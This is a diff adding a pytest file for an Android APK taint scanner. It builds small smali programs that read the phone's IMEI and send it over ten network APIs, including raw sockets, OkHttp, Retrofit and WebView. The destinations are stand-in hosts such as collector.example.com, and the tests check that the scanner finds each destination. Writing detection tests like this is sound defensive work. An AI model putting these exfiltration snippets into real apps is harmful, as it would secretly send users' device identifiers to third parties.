@@ -1,0 +1,243 @@
+"""Where a network sink call sends: one small program per way the code fixes the host, each with a twin
+whose URL comes from outside (an intent extra) and so has no destinations."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from analyzer.static.scan import scan_apk
+from bench.hostile import IMEI_INTO_V0, LAUNCHER, ctor, permission_apk, smali_dex
+
+PHONE = "android.permission.READ_PHONE_STATE"
+URL = "https://api.example.com/v1/upload"
+ORIGIN = "https://api.example.com"
+
+
+def _const(reg: str, value: str) -> str:
+    return f'    const-string {reg}, "{value}"\n'
+
+
+def _user(reg: str) -> str:
+    """A string the app is handed (an intent extra) into ``reg``."""
+    return (f"    invoke-virtual {{p0}}, Landroid/app/Activity;->getIntent()Landroid/content/Intent;\n"
+            f"    move-result-object {reg}\n"
+            f'    const-string v8, "u"\n'
+            f"    invoke-virtual {{{reg}, v8}}, Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)"
+            f"Ljava/lang/String;\n    move-result-object {reg}\n")
+
+
+def _write(stream: str) -> str:
+    """The IMEI (``v0``) written to ``stream``."""
+    return ("    invoke-virtual {v0}, Ljava/lang/String;->getBytes()[B\n    move-result-object v9\n"
+            f"    invoke-virtual {{{stream}, v9}}, Ljava/io/OutputStream;->write([B)V\n")
+
+
+def _post(url: str) -> str:
+    """``new URL(url).openConnection().getOutputStream().write(imei)``."""
+    return (f"    new-instance v2, Ljava/net/URL;\n"
+            f"    invoke-direct {{v2, {url}}}, Ljava/net/URL;-><init>(Ljava/lang/String;)V\n"
+            "    invoke-virtual {v2}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;\n"
+            "    move-result-object v3\n    check-cast v3, Ljava/net/HttpURLConnection;\n"
+            "    invoke-virtual {v3}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;\n"
+            "    move-result-object v4\n" + _write("v4"))
+
+
+def _activity(code: str, extra: str = "") -> str:
+    return ctor(LAUNCHER, "Landroid/app/Activity;") + f"""
+.method protected onCreate(Landroid/os/Bundle;)V
+    .registers 12
+{IMEI_INTO_V0}{code}    return-void
+.end method
+{extra}"""
+
+
+CFG = "Lcom/piflow/sample/notes/Cfg;"
+CLIENT = "Lcom/piflow/sample/notes/Client;"
+HTTP = "Lcom/piflow/sample/notes/HttpUtil;"
+API = "Lcom/piflow/sample/notes/Api;"
+
+
+def local(known: bool) -> dict[str, str]:
+    """The URL in a local register."""
+    return {"M.smali": _activity((_const("v1", URL) if known else _user("v1")) + _post("v1"))}
+
+
+def static_field(known: bool) -> dict[str, str]:
+    """A ``static final`` base URL set by the class initialiser (and, in the twin, overwritten from outside)."""
+    override = "" if known else _user("v1") + f"    sput-object v1, {CFG}->BASE:Ljava/lang/String;\n"
+    return {
+        "M.smali": _activity(override + f"    sget-object v1, {CFG}->BASE:Ljava/lang/String;\n" + _post("v1")),
+        "C.smali": f""".class public {CFG}
+.super Ljava/lang/Object;
+.field public static BASE:Ljava/lang/String;
+.method static constructor <clinit>()V
+    .registers 1
+    const-string v0, "{URL}"
+    sput-object v0, {CFG}->BASE:Ljava/lang/String;
+    return-void
+.end method
+""",
+    }
+
+
+def ctor_field(known: bool) -> dict[str, str]:
+    """A client whose constructor keeps the URL in an instance field its send method reads."""
+    url = _const("v1", URL) if known else _user("v1")
+    return {
+        "M.smali": _activity(url + f"    new-instance v5, {CLIENT}\n"
+                             f"    invoke-direct {{v5, v1}}, {CLIENT}-><init>(Ljava/lang/String;)V\n"
+                             f"    invoke-virtual {{v5, v0}}, {CLIENT}->send(Ljava/lang/String;)V\n"),
+        "C.smali": f""".class public {CLIENT}
+.super Ljava/lang/Object;
+.field private final url:Ljava/lang/String;
+.method public constructor <init>(Ljava/lang/String;)V
+    .registers 2
+    invoke-direct {{p0}}, Ljava/lang/Object;-><init>()V
+    iput-object p1, p0, {CLIENT}->url:Ljava/lang/String;
+    return-void
+.end method
+.method public send(Ljava/lang/String;)V
+    .registers 12
+    move-object v0, p1
+    iget-object v1, p0, {CLIENT}->url:Ljava/lang/String;
+{_post("v1")}    return-void
+.end method
+""",
+    }
+
+
+def parameter(known: bool) -> dict[str, str]:
+    """``HttpUtil.post(url, body)`` called with a constant URL."""
+    url = _const("v1", URL) if known else _user("v1")
+    return {
+        "M.smali": _activity(url + f"    invoke-static {{v1, v0}}, {HTTP}->post(Ljava/lang/String;"
+                                   "Ljava/lang/String;)V\n"),
+        "H.smali": f""".class public {HTTP}
+.super Ljava/lang/Object;
+.method public static post(Ljava/lang/String;Ljava/lang/String;)V
+    .registers 12
+    move-object v0, p1
+    move-object v1, p0
+{_post("v1")}    return-void
+.end method
+""",
+    }
+
+
+def string_builder(known: bool) -> dict[str, str]:
+    """``new URL("https://host/u?id=" + imei).openStream()``: the constant prefix fixes the host."""
+    head = _const("v1", URL + "?id=") if known else _user("v1")
+    return {"M.smali": _activity(
+        head + "    new-instance v6, Ljava/lang/StringBuilder;\n"
+        "    invoke-direct {v6, v1}, Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V\n"
+        "    invoke-virtual {v6, v0}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)"
+        "Ljava/lang/StringBuilder;\n    move-result-object v6\n"
+        "    invoke-virtual {v6}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;\n"
+        "    move-result-object v1\n"
+        "    new-instance v2, Ljava/net/URL;\n"
+        "    invoke-direct {v2, v1}, Ljava/net/URL;-><init>(Ljava/lang/String;)V\n"
+        "    invoke-virtual {v2}, Ljava/net/URL;->openStream()Ljava/io/InputStream;\n")}
+
+
+def okhttp(known: bool) -> dict[str, str]:
+    """``client.newCall(new Request.Builder().url(URL).post(RequestBody.create(null, imei)).build()).execute()``."""
+    url = _const("v1", URL) if known else _user("v1")
+    rb = "Lokhttp3/Request$Builder;"
+    return {"M.smali": _activity(
+        url + f"    new-instance v2, {rb}\n    invoke-direct {{v2}}, {rb}-><init>()V\n"
+        f"    invoke-virtual {{v2, v1}}, {rb}->url(Ljava/lang/String;){rb}\n    move-result-object v2\n"
+        "    const/4 v7, 0x0\n"
+        "    invoke-static {v7, v0}, Lokhttp3/RequestBody;->create(Lokhttp3/MediaType;Ljava/lang/String;)"
+        "Lokhttp3/RequestBody;\n    move-result-object v3\n"
+        f"    invoke-virtual {{v2, v3}}, {rb}->post(Lokhttp3/RequestBody;){rb}\n    move-result-object v2\n"
+        f"    invoke-virtual {{v2}}, {rb}->build()Lokhttp3/Request;\n    move-result-object v3\n"
+        "    new-instance v4, Lokhttp3/OkHttpClient;\n"
+        "    invoke-direct {v4}, Lokhttp3/OkHttpClient;-><init>()V\n"
+        "    invoke-virtual {v4, v3}, Lokhttp3/OkHttpClient;->newCall(Lokhttp3/Request;)Lokhttp3/Call;\n"
+        "    move-result-object v5\n"
+        "    invoke-interface {v5}, Lokhttp3/Call;->execute()Lokhttp3/Response;\n")}
+
+
+def retrofit(known: bool) -> dict[str, str]:
+    """A Retrofit service made with a constant base URL; the call of its method is sent."""
+    url = _const("v1", ORIGIN + "/") if known else _user("v1")
+    rb = "Lretrofit2/Retrofit$Builder;"
+    return {
+        "M.smali": _activity(
+            url + f"    new-instance v2, {rb}\n    invoke-direct {{v2}}, {rb}-><init>()V\n"
+            f"    invoke-virtual {{v2, v1}}, {rb}->baseUrl(Ljava/lang/String;){rb}\n    move-result-object v2\n"
+            f"    invoke-virtual {{v2}}, {rb}->build()Lretrofit2/Retrofit;\n    move-result-object v3\n"
+            f"    const-class v4, {API}\n"
+            "    invoke-virtual {v3, v4}, Lretrofit2/Retrofit;->create(Ljava/lang/Class;)Ljava/lang/Object;\n"
+            f"    move-result-object v5\n    check-cast v5, {API}\n"
+            f"    invoke-interface {{v5, v0}}, {API}->upload(Ljava/lang/String;)Lretrofit2/Call;\n"
+            "    move-result-object v6\n"
+            "    invoke-interface {v6}, Lretrofit2/Call;->execute()Lretrofit2/Response;\n"),
+        "A.smali": f""".class public abstract interface {API}
+.super Ljava/lang/Object;
+.method public abstract upload(Ljava/lang/String;)Lretrofit2/Call;
+    .annotation runtime Lretrofit2/http/POST;
+        value = "v1/upload"
+    .end annotation
+.end method
+""",
+    }
+
+
+def volley(known: bool) -> dict[str, str]:
+    """``new StringRequest(POST, "https://host/u?id=" + imei, null, null)`` added to a queue."""
+    head = _const("v1", URL + "?id=") if known else _user("v1")
+    sr = "Lcom/android/volley/toolbox/StringRequest;"
+    return {"M.smali": _activity(
+        head + "    invoke-virtual {v1, v0}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;\n"
+        "    move-result-object v1\n    const/4 v7, 0x1\n    const/4 v6, 0x0\n"
+        f"    new-instance v2, {sr}\n"
+        f"    invoke-direct {{v2, v7, v1, v6, v6}}, {sr}-><init>(ILjava/lang/String;"
+        "Lcom/android/volley/Response$Listener;Lcom/android/volley/Response$ErrorListener;)V\n")}
+
+
+def socket(known: bool) -> dict[str, str]:
+    """``new Socket("collector.example.com", 9000).getOutputStream().write(imei)``."""
+    host = _const("v1", "collector.example.com") if known else _user("v1")
+    return {"M.smali": _activity(
+        host + "    const/16 v7, 0x2328\n    new-instance v2, Ljava/net/Socket;\n"
+        "    invoke-direct {v2, v1, v7}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V\n"
+        "    invoke-virtual {v2}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;\n"
+        "    move-result-object v4\n" + _write("v4"))}
+
+
+def webview(known: bool) -> dict[str, str]:
+    """``webView.postUrl(URL, imei.getBytes())``."""
+    url = _const("v1", URL) if known else _user("v1")
+    return {"M.smali": _activity(
+        url + "    new-instance v2, Landroid/webkit/WebView;\n"
+        "    invoke-direct {v2, p0}, Landroid/webkit/WebView;-><init>(Landroid/content/Context;)V\n"
+        "    invoke-virtual {v0}, Ljava/lang/String;->getBytes()[B\n    move-result-object v9\n"
+        "    invoke-virtual {v2, v1, v9}, Landroid/webkit/WebView;->postUrl(Ljava/lang/String;[B)V\n")}
+
+
+FAMILIES = {
+    "local": (local, ORIGIN),
+    "static_field": (static_field, ORIGIN),
+    "ctor_field": (ctor_field, ORIGIN),
+    "parameter": (parameter, ORIGIN),
+    "string_builder": (string_builder, ORIGIN),
+    "okhttp": (okhttp, ORIGIN),
+    "retrofit": (retrofit, ORIGIN),
+    "volley": (volley, ORIGIN),
+    "socket": (socket, "tcp://collector.example.com:9000"),
+    "webview": (webview, ORIGIN),
+}
+
+
+@pytest.mark.parametrize("known", [True, False], ids=["constant", "from-outside"])
+@pytest.mark.parametrize("family", sorted(FAMILIES))
+def test_sink_destinations(tmp_path: Path, family: str, known: bool) -> None:
+    program, origin = FAMILIES[family]
+    r = scan_apk(permission_apk(tmp_path / f"{family}.apk", smali_dex(program(known)), PHONE), taint=True)
+    sent = [lk for lk in r.leaks if lk.sink_kind in ("network", "webview") and "device.imei" in lk.pi]
+    assert sent, f"no network leak of the IMEI in {family}"
+    found = {d for lk in sent for d in lk.destinations}
+    assert found == ({origin} if known else set())
